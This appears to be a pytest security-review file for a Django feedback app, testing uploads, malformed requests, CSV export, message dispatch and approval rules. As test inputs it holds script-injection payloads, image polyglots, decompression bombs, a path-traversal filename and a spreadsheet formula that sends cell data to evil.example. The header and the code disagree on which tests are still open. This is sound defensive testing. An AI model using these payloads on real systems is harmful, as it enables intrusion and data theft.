"""Outside review of issue 14 (the ``feedback`` app), 2026-11-30.

Each test is named for the behaviour that SHOULD hold; each finding failed here before its fix (same
branch, one commit each). ``test_held_*``: attacks that held. ``xfail(strict)``: open, not fixed here.

Fixed:
- [high] test_a_message_whose_segment_matches_no_branch_is_sent_to_nobody_and_blocks_nothing
- [medium] test_one_message_that_cannot_be_sent_does_not_hold_back_the_later_ones
- [medium] test_a_polyglot_image_with_a_payload_behind_it_is_refused_and_nothing_is_stored (9 cases)
- [medium] test_odd_multipart_bodies_are_a_4xx_or_stored_under_a_random_name (1200 fields, 120 files: 500)
- [medium] test_a_customer_cannot_fill_the_disk_with_screenshots
- [medium] test_an_approver_the_author_promoted_recently_cannot_approve_their_content (article, message)
- [low] test_a_small_file_that_decodes_to_hundreds_of_megabytes_is_refused
- [low] test_no_csv_cell_of_the_survey_export_starts_a_formula
- [low] test_the_officer_working_a_ticket_keeps_seeing_its_screenshots_after_the_customer_changes_branch
Open (xfail strict):
- [medium] test_two_marketers_cannot_send_a_promotion_labelled_as_a_service_notice_to_customers_without_consent
- [medium] test_refusals_speak_the_callers_language[zh-hans] (locale/zh_Hans lacks feedback's texts)
"""

from __future__ import annotations

import io
import struct
from pathlib import Path
from typing import Any

import pytest
from django.utils import timezone
from PIL import Image

from feedback.models import Feedback, FeedbackAttachment, Ticket
from tests.accounts.conftest import bearer_client
from tests.factories import CustomerFactory
from tests.feedback.factories_tickets import image_bytes, upload
from tests.feedback.fixtures_messages import _messages_reference_data  # noqa: F401 - autouse: role groups

pytestmark = pytest.mark.django_db

URL = "/api/v1/feedback"


@pytest.fixture(autouse=True)
def private_dir(settings: Any, tmp_path: Any) -> Any:
    settings.FEEDBACK_PRIVATE_DIR = tmp_path / "private"
    return settings.FEEDBACK_PRIVATE_DIR


def _stored_files(root: Path) -> list[Path]:
    return [p for p in Path(root).rglob("*") if p.is_file()] if Path(root).exists() else []


def _nothing_stored(root: Path) -> None:
    assert Feedback.objects.count() == 0
    assert FeedbackAttachment.objects.count() == 0
    assert Ticket.objects.count() == 0
    assert _stored_files(root) == []


def _body(**extra: Any) -> dict[str, Any]:
    return {"category": "PROBLEM", "rating": 2, "text": "扫码失败", **extra}


# --- attachments ------------------------------------------------------------------------------------
HTML = b"<html><body><script>alert(document.cookie)</script></body></html>"
ZIP = b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + b"\x00" * 64
EXE = b"MZ\x90\x00" + b"\x00" * 60 + b"PE\x00\x00"


@pytest.mark.parametrize("fmt", ["PNG", "JPEG", "WEBP"])
@pytest.mark.parametrize("payload", [HTML, ZIP, EXE], ids=["html", "zip", "exe"])
def test_a_polyglot_image_with_a_payload_behind_it_is_refused_and_nothing_is_stored(
    fmt: str, payload: bytes, private_dir: Path
) -> None:
    """[medium] docs/feedback.md: "a file with a PNG header and something else behind it [is] refused"."""
    client = bearer_client(CustomerFactory())
    content = image_bytes(fmt) + payload

    response = client.post(URL, {**_body(), "attachments": [upload(content)]}, format="multipart")

    assert response.status_code == 415, response.content
    assert response.json()["code"] == "attachment_type_not_allowed"
    _nothing_stored(private_dir)


@pytest.mark.parametrize("fmt", ["PNG", "JPEG", "WEBP"])
def test_held_a_plain_screenshot_of_each_type_is_accepted(fmt: str) -> None:
    client = bearer_client(CustomerFactory())

    response = client.post(URL, {**_body(), "attachments": [upload(image_bytes(fmt))]}, format="multipart")

    assert response.status_code == 201, response.content
    assert response.json()["attachments"][0]["content_type"] == f"image/{fmt.lower()}"


def test_held_a_progressive_jpeg_with_restart_markers_is_accepted() -> None:
    out = io.BytesIO()
    Image.effect_noise((120, 90), 64).convert("RGB").save(out, format="JPEG", progressive=True, restart_marker_rows=1)
    client = bearer_client(CustomerFactory())

    response = client.post(URL, {**_body(), "attachments": [upload(out.getvalue())]}, format="multipart")

    assert response.status_code == 201, response.content


SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


@pytest.mark.parametrize(
    "content,name",
    [
        (SVG, "x.svg"),
        (b"<html><script>alert(1)</script></html>", "x.png"),
        (EXE, "screen.png"),
        (b"GIF89a" + b"\x00" * 20, "x.png"),
        (image_bytes("PNG")[:60], "truncated.png"),
    ],
    ids=["svg", "html", "exe", "gif", "truncated"],
)
def test_held_wrong_types_are_refused(content: bytes, name: str, private_dir: Path) -> None:
    client = bearer_client(CustomerFactory())

    response = client.post(URL, {**_body(), "attachments": [upload(content, name=f"../../{name}")]}, format="multipart")

    assert response.status_code == 415
    _nothing_stored(private_dir)


def test_held_a_decompression_bomb_is_refused(private_dir: Path, settings: Any) -> None:
    out = io.BytesIO()
    Image.new("L", (9000, 9000)).save(out, format="PNG", optimize=True)
    client = bearer_client(CustomerFactory())

    response = client.post(URL, {**_body(), "attachments": [upload(out.getvalue())]}, format="multipart")

    assert response.status_code in (413, 415)
    _nothing_stored(private_dir)


def test_held_a_second_file_refused_removes_the_first(private_dir: Path) -> None:
    client = bearer_client(CustomerFactory())

    response = client.post(
        URL,
        {**_body(), "attachments": [upload(image_bytes("PNG")), upload(b"MZ" + b"\x00" * 100)]},
        format="multipart",
    )

    assert response.status_code == 415
    _nothing_stored(private_dir)


# --- malformed requests --------------------------------------------------------------------------
def _raw(client: Any, body: bytes, content_type: str) -> Any:
    return client.generic("POST", URL, body, content_type=content_type)


@pytest.mark.parametrize(
    "body,content_type",
    [
        (b'--xx\r\nContent-Disposition: form-data; name="text"\r\n\r\nhi', "multipart/form-data; boundary=xx"),
        (b"garbage", "multipart/form-data"),
        (b"garbage", "multipart/form-data; boundary="),
        (b"category=PROBLEM&rating=2&text=hi", "application/x-www-form-urlencoded"),
        (b"category: PROBLEM", "text/plain"),
        (b'{"category": "PROBLEM", "rating": 2, "text": "hi"', "application/json"),
        (b"\xff\xfe{}", "application/json"),
        (b'{"category": "PROBLEM", "rating": 2, "text": "a\\u0000b"}', "application/json"),
        (b'{"category": "PROBLEM", "rating": 2.5, "text": "hi"}', "application/json"),
        (b'{"category": "PROBLEM", "rating": 2, "text": "hi", "attachments": ["aGk="]}', "application/json"),
        (b'{"category": "PROBLEM", "rating": 2, "text": "hi", "attachments": "x"}', "application/json"),
        (b"[]", "application/json"),
        (b"null", "application/json"),
    ],
)
def test_malformed_requests_are_a_4xx_in_the_error_format_never_a_500(
    body: bytes, content_type: str, private_dir: Path
) -> None:
    client = bearer_client(CustomerFactory())

    response = _raw(client, body, content_type)

    assert 400 <= response.status_code < 500, response.content
    assert {"code", "message"} <= set(response.json())
    _nothing_stored(private_dir)


def test_multipart_text_field_named_attachments_is_a_400() -> None:
    client = bearer_client(CustomerFactory())

    response = client.post(URL, {**_body(), "attachments": "not a file"}, format="multipart")

    assert response.status_code == 400
    assert response.json()["code"] == "invalid_request"


def test_a_huge_text_is_a_413_or_400() -> None:
    client = bearer_client(CustomerFactory())

    response = client.post(URL, _body(text="字" * 600_000), format="json")

    assert response.status_code in (400, 413)
    assert "code" in response.json()


def test_an_empty_file_is_a_400(private_dir: Path) -> None:
    client = bearer_client(CustomerFactory())

    response = client.post(URL, {**_body(), "attachments": [upload(b"")]}, format="multipart")

    assert response.status_code == 400
    _nothing_stored(private_dir)


def _webp_riff_size(content: bytes) -> int:
    return int(struct.unpack("<I", content[4:8])[0])


def _multipart(fields: list[tuple[str, str]], files: list[tuple[str, str, bytes]], boundary: str = "b0undary") -> bytes:
    out = io.BytesIO()
    for name, value in fields:
        out.write(f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode())
    for name, filename, content in files:
        out.write(
            f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"; filename="{filename}"\r\n'
            "Content-Type: image/png\r\n\r\n".encode()
        )
        out.write(content + b"\r\n")
    out.write(f"--{boundary}--\r\n".encode())
    return out.getvalue()


PROBE_FIELDS = [("category", "PROBLEM"), ("rating", "2"), ("text", "hi")]


@pytest.mark.parametrize(
    "fields,files",
    [
        (PROBE_FIELDS + [(f"f{i}", "x") for i in range(1200)], []),
        (PROBE_FIELDS, [("attachments", f"{i}.png", b"x") for i in range(120)]),
        (PROBE_FIELDS, [("attachments", "../../../etc/passwd", image_bytes("PNG"))]),
        (PROBE_FIELDS, [("attachments", "\u202egnp.exe", image_bytes("PNG"))]),
        (PROBE_FIELDS, [("attachments", "a" * 5000 + ".png", image_bytes("PNG"))]),
    ],
    ids=["1200-fields", "120-files", "traversal-name", "rtl-name", "long-name"],
)
def test_odd_multipart_bodies_are_a_4xx_or_stored_under_a_random_name(
    fields: list[tuple[str, str]], files: list[tuple[str, str, bytes]], private_dir: Path
) -> None:
    client = bearer_client(CustomerFactory())

    response = _raw(client, _multipart(fields, files), "multipart/form-data; boundary=b0undary")

    assert response.status_code < 500, response.content
    if response.status_code >= 400:
        assert {"code", "message"} <= set(response.json())
        _nothing_stored(private_dir)
    else:
        stored = _stored_files(private_dir)
        assert len(stored) == 1 and stored[0].is_relative_to(private_dir) and "." not in stored[0].name


@pytest.mark.parametrize(
    "method,path",
    [
        ("GET", "/api/v1/tickets/not-a-uuid"),
        ("GET", "/api/v1/feedback/attachments/not-a-uuid"),
        ("POST", "/api/v1/surveys/invitations/not-a-uuid/answer"),
        ("POST", "/api/v1/inbox/not-a-uuid/read"),
        ("PUT", "/api/v1/feedback"),
        ("DELETE", "/api/v1/tickets/00000000-0000-4000-8000-000000000001"),
        ("GET", "/api/v1/feedback/"),
    ],
)
def test_odd_paths_and_methods_answer_in_the_error_format(method: str, path: str) -> None:
    client = bearer_client(CustomerFactory())

    response = client.generic(method, path, b"{}", content_type="application/json")

    assert 400 <= response.status_code < 500
    assert response["Content-Type"].startswith("application/json"), response.content[:200]
    assert {"code", "message"} <= set(response.json())


# --- survey export ----------------------------------------------------------------------------------
def test_no_csv_cell_of_the_survey_export_starts_a_formula() -> None:
    """[low] The comment cell was guarded, the tags cell was not: a keyword list's tag (typed by
    marketing) reached a branch manager's spreadsheet as a formula."""
    import csv

    from accounts.models import StaffRole
    from feedback.models import SurveyKeywordList
    from feedback.selectors_surveys import survey_response_qs_for_staff
    from feedback.services.surveys import survey_answer, survey_responses_csv
    from tests.factories import StaffFactory
    from tests.feedback.factories_tickets import invitation

    SurveyKeywordList.objects.create(tag='=HYPERLINK("http://evil.example/?"&A1)', keywords="慢")
    customer = CustomerFactory()
    survey_answer(customer=customer, public_id=invitation(customer).public_id, score=3, comment="到账太慢")
    manager = StaffFactory(roles=[StaffRole.BRANCH_MANAGER], branch=customer.home_branch)

    body = survey_responses_csv(staff=manager, queryset=survey_response_qs_for_staff(manager))

    rows = list(csv.reader(io.StringIO(body)))
    assert len(rows) == 2
    assert [cell for cell in rows[1] if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []


def test_a_small_file_that_decodes_to_hundreds_of_megabytes_is_refused(private_dir: Path) -> None:
    """[low] 150 KB of PNG (6300x6300 RGBA, under the 40-million-pixel default) decoded to 160 MB
    and 0.4 s of CPU per screenshot, three per request, 30 requests a minute per customer. No phone
    or desktop screenshot is over 16.7 million pixels (4096 x 4096; a 5K screen is 14.7 million)."""
    out = io.BytesIO()
    Image.new("RGBA", (6300, 6300)).save(out, format="PNG", optimize=True)
    client = bearer_client(CustomerFactory())

    response = client.post(URL, {**_body(), "attachments": [upload(out.getvalue())]}, format="multipart")

    assert len(out.getvalue()) < 200_000
    assert response.status_code == 413, response.content
    assert response.json()["code"] == "attachment_too_large"
    _nothing_stored(private_dir)


def test_held_a_5k_desktop_screenshot_is_accepted() -> None:
    out = io.BytesIO()
    Image.new("RGB", (5120, 2880), (255, 255, 255)).save(out, format="PNG", optimize=True)
    client = bearer_client(CustomerFactory())

    response = client.post(URL, {**_body(), "attachments": [upload(out.getvalue())]}, format="multipart")

    assert response.status_code == 201, response.content


# --- messages ---------------------------------------------------------------------------------------
def test_a_message_whose_segment_matches_no_branch_is_sent_to_nobody_and_blocks_nothing() -> None:
    """[high] A segment naming a home branch that does not exist (a typo, a branch closed after the
    message was approved) compiled to ``home_branch_id IN ()``: ``sql_with_params`` raised
    ``EmptyResultSet``, the dispatcher's transaction rolled back and the message stayed SCHEDULED.
    Being the oldest due message, it was picked first again at every tick: no later message (a
    security notice included) was ever sent."""
    from datetime import timedelta

    from django.utils import timezone

    from feedback.models_messages import Message
    from feedback.services.messages import messages_dispatch_due
    from tests.feedback.fixtures_messages import customer, delivered_to, scheduled_message

    someone = customer()
    stale = scheduled_message(segment={"home_branches": ["NO-SUCH-BRANCH"]})
    Message.objects.filter(pk=stale.pk).update(send_at=timezone.now() - timedelta(minutes=5))
    notice = scheduled_message(kind=Message.Kind.SECURITY)

    try:
        messages_dispatch_due()
    finally:
        stale.refresh_from_db()
        notice.refresh_from_db()

    assert (stale.status, stale.recipients_count) == (Message.Status.SENT, 0)
    assert notice.status == Message.Status.SENT
    assert someone.pk in delivered_to(notice)


# --- admin scope ------------------------------------------------------------------------------------
def test_the_officer_working_a_ticket_keeps_seeing_its_screenshots_after_the_customer_changes_branch() -> None:
    """[low] Tickets are queued to the branch at the time of the complaint; feedback and screenshots
    were scoped by the customer's CURRENT home branch. An app customer (no branch) complains with a
    screenshot, customer service works the ticket; a teller then attributes the customer to a branch:
    the officer still holds the ticket but got a 404 for its screenshots. The other way round stays
    closed: staff of an unrelated branch see neither."""
    from accounts.models import StaffRole
    from core.models import AuditEvent
    from feedback.services.tickets import feedback_create
    from tests.accounts.conftest import admin_client_for
    from tests.factories import BranchFactory, StaffFactory

    customer = CustomerFactory(home_branch=None)
    feedback_create(customer=customer, category="COMPLAINT", rating=1, text="截图", files=[upload(image_bytes())])
    attachment = FeedbackAttachment.objects.get()
    officer = StaffFactory(roles=[StaffRole.CUSTOMER_SERVICE], branch=BranchFactory())
    outsider = StaffFactory(roles=[StaffRole.TELLER], branch=BranchFactory())
    url = f"/admin/feedback/feedback/{attachment.feedback_id}/attachments/{attachment.public_id}/"
    assert admin_client_for(officer).get(url).status_code == 200

    customer.home_branch = BranchFactory()
    customer.save(update_fields=["home_branch"])

    assert admin_client_for(officer).get(f"/admin/feedback/ticket/{Ticket.objects.get().pk}/change/").status_code == 200
    assert admin_client_for(officer).get(url).status_code == 200
    assert (
        admin_client_for(officer).get(f"/admin/feedback/feedback/{attachment.feedback_id}/change/").status_code == 200
    )
    assert admin_client_for(outsider).get(url).status_code == 404
    assert AuditEvent.objects.filter(action="feedback.attachment.view", actor_id=outsider.pk).count() == 0


def test_held_customer_service_does_not_see_other_branches_feedback_without_a_ticket() -> None:
    from accounts.models import StaffRole
    from feedback.selectors_tickets import feedback_qs_for_staff
    from feedback.services.tickets import feedback_create
    from tests.factories import BranchFactory, StaffFactory

    elsewhere = CustomerFactory(home_branch=BranchFactory())
    feedback_create(customer=elsewhere, category="PRAISE", rating=5, text="好")
    nobody = CustomerFactory(home_branch=None)
    mine = feedback_create(customer=nobody, category="PRAISE", rating=5, text="好")
    officer = StaffFactory(roles=[StaffRole.CUSTOMER_SERVICE], branch=BranchFactory())

    assert list(feedback_qs_for_staff(officer).values_list("pk", flat=True)) == [mine.pk]


# --- races (real threads, each its own connection) ----------------------------------------------------
@pytest.mark.django_db(transaction=True)
def test_held_parallel_answers_to_one_survey_and_ratings_of_one_ticket_count_once() -> None:
    from accounts.models import StaffRole
    from feedback.models import SurveyResponse
    from feedback.services.surveys import survey_answer
    from feedback.services.tickets import ticket_rate, ticket_status_change
    from tests.factories import StaffFactory
    from tests.feedback.factories_tickets import complaint, invitation
    from tests.payments.test_concurrency import run_threads

    customer = CustomerFactory()
    invited = invitation(customer, "NPS")
    ticket = complaint(customer)
    officer = StaffFactory(roles=[StaffRole.CUSTOMER_SERVICE], branch=customer.home_branch)
    ticket_status_change(staff=officer, ticket=ticket, status="RESOLVED")

    answers = run_threads(
        4, lambda i: str(survey_answer(customer=customer, public_id=invited.public_id, score=i).score)
    )
    ratings = run_threads(
        4, lambda i: str(ticket_rate(customer=customer, public_id=ticket.public_id, rating=i + 1).handling_rating)
    )

    assert answers["survey_already_answered"] == 3 and sum(answers.values()) == 4
    assert ratings["ticket_already_rated"] == 3 and sum(ratings.values()) == 4
    assert SurveyResponse.objects.filter(invitation=invited).count() == 1


# --- open design question -----------------------------------------------------------------------------
def test_two_marketers_cannot_send_a_promotion_labelled_as_a_service_notice_to_customers_without_consent() -> None:
    """[medium, fixed at merge] MARKETING reaches consenting customers only, SERVICE and SECURITY
    reach everyone, and the writer chooses the kind: one marketer wrote a promotion as SERVICE, a
    second approved it, and it reached customers who refused marketing. Now a notice that ignores
    consent is approved only by a risk officer outside marketing (403 notice_approval_refused)."""
    from feedback.errors_messages import NoticeApprovalRefused
    from feedback.models_messages import Message
    from feedback.services.messages import message_approve, message_create, message_submit
    from tests.feedback.fixtures_messages import marketer

    maker = marketer()
    data = {
        "kind": Message.Kind.SERVICE,
        "audience": Message.Audience.SEGMENT,
        "title_zh": "限时优惠",
        "title_en": "Flash sale",
        "body_zh": "今日消费满100减20。",
        "body_en": "20 off 100 today.",
        "segment": {},
        "send_at": timezone.now(),
    }
    message = message_create(by=maker, data=data, customer_ids=[])
    message_submit(message_id=message.pk, by=maker)

    with pytest.raises(NoticeApprovalRefused):
        message_approve(message_id=message.pk, by=marketer())

    assert Message.objects.get(pk=message.pk).status == Message.Status.SUBMITTED


@pytest.mark.parametrize(
    "language",
    [
        "en",
        "zh-hans",  # the catalogue was completed at merge
    ],
)
def test_refusals_speak_the_callers_language(language: str) -> None:
    """The wallet's default language is Simplified Chinese; every feedback refusal came back in English."""
    client = bearer_client(CustomerFactory())

    exe = client.post(URL, {**_body(), "attachments": [upload(EXE)]}, format="multipart", HTTP_ACCEPT_LANGUAGE=language)
    many = client.post(
        URL,
        {**_body(), "attachments": [upload(image_bytes()) for _ in range(4)]},
        format="multipart",
        HTTP_ACCEPT_LANGUAGE=language,
    )
    closed = client.post(
        "/api/v1/tickets/00000000-0000-4000-8000-000000000001/messages",
        {"text": "hi"},
        format="json",
        HTTP_ACCEPT_LANGUAGE=language,
    )

    for response in (exe, many, closed):
        message = response.json()["message"]
        has_chinese = any("\u4e00" <= ch <= "\u9fff" for ch in message)
        assert has_chinese == (language == "zh-hans"), message


# --- rate limits ----------------------------------------------------------------------------------------
def test_a_customer_cannot_fill_the_disk_with_screenshots(settings: Any) -> None:
    """[medium] Sending feedback was limited by the shared ``sensitive`` scope only (30 a minute): at
    up to 1 MiB of screenshots a request, one customer could store 1.8 GB an hour, 43 GB a day, with
    no daily bound. Now also a daily scope ``feedback`` (THROTTLE_FEEDBACK, 20 a day by default)."""
    rate = settings.REST_FRAMEWORK["DEFAULT_THROTTLE_RATES"].get("feedback", "")
    client = bearer_client(CustomerFactory())

    statuses = [client.post(URL, _body(), format="json").status_code for _ in range(21)]

    assert rate.endswith("/day") and int(rate.split("/")[0]) <= 20
    assert statuses[:20] == [201] * 20
    assert statuses[20] == 429
    assert Feedback.objects.count() == 20


@pytest.mark.django_db(transaction=True)
def test_held_a_cancel_racing_the_dispatcher_either_stops_the_message_or_is_refused() -> None:
    from feedback.models_messages import Message
    from feedback.services.messages import message_cancel, messages_dispatch_due
    from tests.feedback.fixtures_messages import customer, delivered_to, marketer, scheduled_message
    from tests.payments.test_concurrency import run_threads

    for _ in range(3):
        customer()
    message = scheduled_message(kind=Message.Kind.SECURITY)
    canceller = marketer()

    def work(i: int) -> str:
        if i == 0:
            return f"sent {len(messages_dispatch_due())}"
        return message_cancel(message_id=message.pk, by=canceller, reason="wrong audience").status

    outcomes = run_threads(2, work)

    message.refresh_from_db()
    if message.status == Message.Status.CANCELLED:
        assert outcomes == {"sent 0": 1, "CANCELLED": 1} and delivered_to(message) == set()
    else:
        assert outcomes == {"sent 1": 1, "content_state_invalid": 1} and len(delivered_to(message)) == 3


def test_one_message_that_cannot_be_sent_does_not_hold_back_the_later_ones() -> None:
    """[medium] The dispatcher takes the oldest due message first, every tick: any message whose
    fan-out raises (here a segment document stored before its schema changed) rolled back and was
    taken first again, so a security notice due after it never went out. Now the failing message
    is logged, stays SCHEDULED for the next tick, and the others are sent."""
    from datetime import timedelta

    from django.utils import timezone

    from feedback.models_messages import Message
    from feedback.services.messages import messages_dispatch_due
    from tests.feedback.fixtures_messages import customer, delivered_to, scheduled_message

    someone = customer()
    broken = scheduled_message()
    Message.objects.filter(pk=broken.pk).update(
        segment={"no_such_criterion": True}, send_at=timezone.now() - timedelta(minutes=5)
    )
    notice = scheduled_message(kind=Message.Kind.SECURITY)

    try:
        sent = messages_dispatch_due()
    finally:
        broken.refresh_from_db()
        notice.refresh_from_db()

    assert sent == [notice.pk]
    assert broken.status == Message.Status.SCHEDULED
    assert notice.status == Message.Status.SENT and someone.pk in delivered_to(notice)


# --- separation of duties -----------------------------------------------------------------------------
@pytest.mark.parametrize("what", ["article", "message"])
def test_an_approver_the_author_promoted_recently_cannot_approve_their_content(what: str) -> None:
    """[medium] ARCHITECTURE 6: "an approver may not be an account the maker created or promoted
    recently". Campaigns, FX rates, adjustments, holds and freezes check it
    (``approver_ensure_independent``); articles and messages only compared ids, so an author who had
    just given a colleague the marketing role had their own security tip or message approved by them."""
    from datetime import timedelta

    from django.utils import timezone

    from accounts.models import StaffRole
    from accounts.services.staff import ApproverNotIndependent
    from core.audit import audit_record
    from feedback.models_messages import Article, Message
    from feedback.services import articles, messages
    from tests.factories import StaffFactory

    author = StaffFactory(roles=[StaffRole.MARKETING], branch=None)
    puppet = StaffFactory(roles=[StaffRole.MARKETING], branch=None)
    audit_record(action="auth.user.roles", actor=author, obj=puppet, changes={"groups": [[], ["MARKETING"]]})
    texts = {"title_zh": "勿泄露验证码", "title_en": "Never share a code", "body_zh": "正文", "body_en": "Body"}
    if what == "article":
        item = articles.article_create(by=author, data={**texts, "kind": "SECURITY_TIP", "slug": ""})
        articles.article_submit(article_id=item.pk, by=author)
        approve: Any = lambda: articles.article_approve(article_id=item.pk, by=puppet)  # noqa: E731
    else:
        data = {**texts, "kind": "SECURITY", "audience": "SEGMENT", "segment": {}, "send_at": timezone.now()}
        item = messages.message_create(by=author, data={**data, "send_at": timezone.now() + timedelta(hours=1)})
        messages.message_submit(message_id=item.pk, by=author)
        approve = lambda: messages.message_approve(message_id=item.pk, by=puppet)  # noqa: E731

    with pytest.raises(ApproverNotIndependent):
        approve()

    item.refresh_from_db()
    assert item.status == (Article.Status.SUBMITTED if what == "article" else Message.Status.SUBMITTED)
